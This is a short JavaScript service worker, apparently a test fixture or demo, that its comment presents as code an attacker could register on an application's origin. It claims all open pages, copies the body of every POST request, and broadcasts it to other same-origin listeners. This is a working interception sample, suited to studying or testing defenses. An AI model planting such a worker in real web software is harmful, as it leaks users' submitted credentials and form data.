/** What an attacker could have registered who gets a script of their own served by the application's origin. */
const heard = new BroadcastChannel('heard by the service worker');
self.onactivate = (event) => event.waitUntil(self.clients.claim());
self.onfetch = ({ request }) => {
  if (request.method !== 'POST') return;
  request
    .clone()
    .text()
    .then((text) => heard.postMessage(text));
};
